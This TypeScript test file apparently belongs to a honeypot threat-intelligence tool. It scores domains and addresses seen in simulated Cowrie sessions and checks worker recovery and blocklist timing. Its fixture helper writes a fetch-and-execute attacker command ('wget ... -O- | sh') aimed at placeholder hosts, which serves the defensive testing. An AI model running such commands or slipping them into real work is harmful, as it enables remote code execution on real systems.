import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Worker } from 'node:worker_threads';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { openSystem, type System } from '../../../test/setup/commands.ts';
import { configSchema } from '../../config.ts';
import { compiled } from '../../kit/compiled.ts';
import { silentLog } from '../../kit/log.ts';
import { packageFolder } from '../../version.ts';
import { openFeeds } from '../feeds.ts';
import { type Crossed, openDomains } from './domains.ts';
import type { TakenAnswer } from './messages.ts';
import { decoySeeds } from './seeds.ts';
import { domainsWorkerEnd } from './worker-end.ts';

let system: System;
const folder = mkdtempSync(join(tmpdir(), 'caltrop-domains-'));
const feeds = configSchema.parse({}).feeds;

/** A session in which a decoy is told to fetch these. */
async function attacked(from: number, urls: string[]): Promise<void> {
  const cowrie = join(folder, `cowrie-${from}.json`);
  const head = { src_ip: '192.0.2.7', session: `aa${from}`, sensor: 'd', protocol: 'ssh' };
  const said = [
    { eventid: 'cowrie.session.connect', src_port: 4, dst_ip: '198.51.100.1', dst_port: 22 },
    { eventid: 'cowrie.login.success', username: 'root', password: 'x' },
    ...urls.map((url) => ({
      eventid: 'cowrie.command.input',
      input: `cd /tmp; wget http://${url} -O- | sh`,
    })),
    { eventid: 'cowrie.session.closed', duration_ms: 4_000 },
  ];
  const text = said.map((one, second) =>
    JSON.stringify({ timestamp: new Date(from + second * 1_000).toISOString(), ...head, ...one }),
  );
  writeFileSync(cowrie, `${text.join('\n')}\n`);
  expect((await system.run('import', '--format', 'cowrie', cowrie)).code).toBe(0);
}

beforeAll(async () => {
  system = await openSystem();
  const edges = join(folder, 'edges.tsv');
  const lines = ['domain\tip', 'update.kittens.example\t203.0.113.9', 'www.neighbour.example\t203.0.113.9'];
  for (let n = 0; n < 40; n++) lines.push(`www.shop${n}.example\t198.51.100.${n}`);
  writeFileSync(edges, `${lines.join('\n')}\n`);
  expect((await system.run('import', '--format', 'edges', edges)).code).toBe(0);
  await attacked(Date.UTC(2026, 1, 1), ['203.0.113.9/x.sh', 'update.kittens.example/y']);
}, 240_000);
afterAll(async () => {
  await system?.close();
  rmSync(folder, { recursive: true, force: true });
});

/** A graph of its own beside that of the system, on the same lake; `workers` are those that it starts. */
function domainsIn(name: string) {
  const workers: Worker[] = [];
  const { lake, sessions } = system.pipeline;
  const domains = openDomains({
    ...{
      data: join(folder, name),
      lake,
      sessions,
      feeds,
      neverBlock: () => [],
      leastClients: 3,
      running: false,
    },
    ...{ log: silentLog, now: () => Date.UTC(2026, 1, 2) },
    start: (setup) => {
      const worker = new Worker(compiled('./worker.js', import.meta.url), { workerData: setup });
      workers.push(worker);
      return worker;
    },
  });
  return { domains, workers };
}

const endIn = (name: string) =>
  domainsWorkerEnd(
    { data: join(folder, name), feeds, model: packageFolder('models/names.model'), crossed: [] },
    silentLog,
  );

async function runs(): Promise<string[]> {
  const found: string[] = [];
  for await (const { run } of system.pipeline.lake.rows({
    sql: "SELECT DISTINCT run FROM events WHERE kind = 'answer'",
  }))
    found.push(String(run));
  return found;
}

it('says of names and addresses where they stand, and tells once what comes over a threshold', {
  timeout: 120_000,
}, async () => {
  const first = domainsIn('one');
  const told: Crossed[] = [];
  first.domains.onCrossed((crossed) => told.push(crossed));
  for (const run of await runs()) {
    first.domains.begin(run);
    await first.domains.absorb(run);
  }
  const scores = await first.domains.scoresOf([
    'update.kittens.example',
    'www.neighbour.example',
    '203.0.113.9',
    '198.51.100.3',
    'never.asked.example',
    'no name at all',
  ]);
  expect([...scores.keys()].sort()).toEqual([
    '198.51.100.3',
    '203.0.113.9',
    'update.kittens.example',
    'www.neighbour.example',
  ]);
  expect(scores.get('203.0.113.9')!.reason).toContain('at a decoy');
  expect(scores.get('203.0.113.9')!.score).toBeGreaterThan(scores.get('198.51.100.3')!.score);
  const [worst] = told;
  expect(worst).toMatchObject({ name: 'update.kittens.example', day: 20_486, listed: false });
  expect(worst!.score).toBe(scores.get('update.kittens.example')!.score);
  expect(worst!.reasons.length).toBeGreaterThan(0);
  const count = told.length;
  expect(new Set(told.map(({ name, class: kind }) => `${name} ${kind}`)).size).toBe(count);
  await first.domains.close();
  // Nor is it told again by the next start.
  const second = domainsIn('one');
  second.domains.onCrossed((crossed) => told.push(crossed));
  expect(await second.domains.rank({ limit: 100 })).toHaveLength(42);
  expect(told).toHaveLength(count);
  await second.domains.close();
});

it('goes on after its worker has died, with all that was taken in and what was not', {
  timeout: 120_000,
}, async () => {
  const { domains, workers } = domainsIn('two');
  const [run] = await runs();
  domains.begin(run!);
  await domains.absorb(run!);
  const before = await domains.rank({ limit: 100 });
  await workers[0]!.terminate();
  const after = await domains.rank({ limit: 100 });
  expect(after).toEqual(before);
  expect(domains.counters.deaths).toBe(1);
  expect(workers).toHaveLength(2);
  // It dies while it is given answers: they are given to the next one.
  domains.begin(run!);
  const absorbed = domains.absorb(run!);
  await workers[1]!.terminate();
  await absorbed;
  expect(await domains.rank({ limit: 100 })).toEqual(before);
  await domains.close();
});

it('tells of a name that joins what is known to be bad as its answer comes, without ranking all', async () => {
  const end = endIn('live');
  const answer = (name: string, ...ips: string[]): TakenAnswer => ({
    ...{ name, day: 20_486 },
    items: ips.map((data) => ({ owner: name, type: 'A', data })),
  });
  const answers = Array.from({ length: 200 }, (_, n) => answer(`www.shop${n}.example`, `198.51.100.${n}`));
  expect(await end.ask('take', { answers })).toEqual({
    ...{ crossed: [], due: true },
    clients: { pushedOut: 0, leftOut: 0 },
  });
  const seeds = ['203.0.113.9', '203.0.113.77'].map((host) => ({ host, says: 'was told' }));
  const known = { now: Date.UTC(2026, 1, 2), seeds, neverBlock: [] };
  expect(await end.ask('refresh', known)).toEqual({ crossed: [], rankings: 1 });
  const name = 'xj4kq9vz2.example';
  const taken = await end.ask('take', { answers: [answer(name, '203.0.113.9', '203.0.113.77')] });
  expect(taken.due).toBe(false);
  expect(taken.crossed).toHaveLength(1);
  expect(taken.crossed[0]).toMatchObject({ name, day: 20_486, listed: false });
  expect(taken.crossed[0]!.score).toBeGreaterThan(70);
  expect((await end.ask('rank', { limit: 1 }))[0]).toMatchObject({ name, score: taken.crossed[0]!.score });
  // Told once: not with the next look, and not where all is ranked on another day.
  expect(await end.ask('refresh', known)).toEqual({ crossed: [], rankings: 1 });
  const next = { ...known, now: known.now + 86_400_000 };
  expect(await end.ask('refresh', next)).toEqual({ crossed: [], rankings: 2 });
  const score = (await end.ask('rank', { limit: 1 }))[0]!.score;
  expect(Math.abs(score - taken.crossed[0]!.score)).toBeLessThan(1);
  await end.stop();
});

it('keeps where names stood and since when, over a kill, and when a list had them', {
  timeout: 60_000,
}, async () => {
  const list = join(folder, 'list.txt');
  const config = configSchema.parse({
    feeds: { lists: [{ name: 'late', path: list, format: 'plain' }] },
  }).feeds;
  const data = join(folder, 'kept');
  const day = (n: number) => Date.UTC(2026, 1, 2 + n);
  const name = 'xj4kq9vz2.example';
  const setup = { data, feeds: config, model: packageFolder('models/names.model'), crossed: [] };
  const carriers = ['203.0.113.9', '203.0.113.77', '203.0.113.201'];
  const seeds = carriers.map((host) => ({ host, says: 'was told' }));
  const items = carriers.map((ip) => ({ owner: name, type: 'A', data: ip }));
  const first = domainsWorkerEnd(setup, silentLog);
  await first.ask('refresh', { now: day(0), seeds, neverBlock: [] });
  const taken = await first.ask('take', { answers: [{ name, items, day: 20_486 }] });
  expect(taken.crossed[0]!.score).toBeGreaterThan(95);
  await first.ask('keep', {});
  // As `kill -9` does it: nothing is closed.
  await first.stop();
  const second = domainsWorkerEnd(setup, silentLog);
  await second.ask('refresh', { now: day(1), seeds, neverBlock: [] });
  const before = (await second.ask('show', { name }))!;
  expect(before).toMatchObject({ since: 20_486, listed: null });
  expect(before.history[0]).toMatchObject({ day: 20_486, class: 'Malicious' });
  expect(await second.ask('lead', { today: 20_487 })).toMatchObject({ crossed: 1, listed: 0, waiting: 1 });
  // Four days later a list has it.
  writeFileSync(list, `${name}\n`);
  await openFeeds({ config, data, now: () => day(4) }).refresh();
  await second.ask('refresh', { now: day(5), seeds, neverBlock: [] });
  expect(await second.ask('show', { name })).toMatchObject({
    since: 20_486,
    listed: { day: 20_490, feed: 'late' },
  });
  const lead = await second.ask('lead', { today: 20_491 });
  expect(lead).toMatchObject({ crossed: 1, listed: 1, before: 0, waiting: 0, median: null, over: null });
  await second.stop();
});

it('passes over one answer that it cannot take, counts it, and takes the others', async () => {
  const end = endIn('three');
  const answer = (name: string): TakenAnswer => ({ name, items: [], day: 20_486 });
  // Such a thing has no way through the readers: it stands for a bug.
  const broken = { name: 'b.example', day: 20_486 } as TakenAnswer;
  await end.ask('take', { answers: [answer('a.example'), broken, answer('c.example')] });
  await end.ask('refresh', { now: Date.UTC(2026, 1, 2), seeds: [], neverBlock: [] });
  expect((await end.ask('rank', { limit: 9 })).map(({ name }) => name)).toEqual(
    expect.arrayContaining(['a.example', 'c.example']),
  );
  expect(end.counters.faults).toBe(1);
  await end.stop();
  await expect(end.ask('keep', {})).rejects.toThrow();
});

it('asks for what decoys were told of since the last look, and for all now and then', {
  timeout: 60_000,
}, async () => {
  const read = decoySeeds(system.pipeline.sessions);
  const hosts = async (whole: boolean) => (await read(whole)).map(({ host }) => host).sort();
  const first = ['203.0.113.9', 'update.kittens.example'];
  expect(await hosts(false)).toEqual(first);
  await attacked(Date.UTC(2026, 1, 3), ['later.kittens.example/z']);
  const second = [...first, 'later.kittens.example'].sort();
  expect(await hosts(false)).toEqual(second);
  // An import of an older log.
  await attacked(Date.UTC(2026, 0, 3), ['older.kittens.example/z']);
  expect(await hosts(false)).toEqual(second);
  expect(await hosts(true)).toEqual([...second, 'older.kittens.example'].sort());
});

it('minds a day on which a source began from the very answers on that tell of it, and ranks all anew then', async () => {
  const end = endIn('begun');
  const day = 20_486;
  const at = (on: number, ip: string, ...names: string[]): TakenAnswer[] =>
    names.map((name) => ({ name, day: on, items: [{ owner: name, type: 'A', data: ip }] }));
  const bad = Array.from({ length: 5 }, (_, n) => `load${n}.example`);
  const shops = Array.from({ length: 200 }, (_, n) =>
    at(day - 40, `198.51.100.${n}`, `www.shop${n}.example`),
  );
  await end.ask('take', { answers: [...shops.flat(), ...at(day - 9, '198.51.100.250', ...bad)] });
  const seeds = bad.map((host) => ({ host, says: 'was told' }));
  const known = { now: day * 86_400_000, seeds, neverBlock: [], beginnings: [day - 40] };
  expect((await end.ask('refresh', known)).rankings).toBe(1);
  expect((await end.ask('refresh', known)).rankings).toBe(1);
  const says = async (name: string) =>
    (await end.ask('show', { name }))!.reasons.some(({ says: one }) => one.includes('are known to be bad'));
  // The bad ones come first to one address; both others come to it on the same day, one as its source begins.
  await end.ask('take', { answers: at(day - 5, '203.0.113.9', ...bad) });
  await end.ask('take', { answers: at(day - 2, '203.0.113.9', 'www.guest.example') });
  expect(await says('www.guest.example')).toBe(true);
  const beginnings = [day - 40, day];
  await end.ask('take', { answers: at(day, '203.0.113.9', 'www.orchard.example'), beginnings });
  expect(await says('www.orchard.example')).toBe(false);
  expect(await says('www.guest.example')).toBe(true);
  expect((await end.ask('refresh', { ...known, beginnings })).rankings).toBe(2);
  expect(await says('www.orchard.example')).toBe(false);
  await end.stop();
});
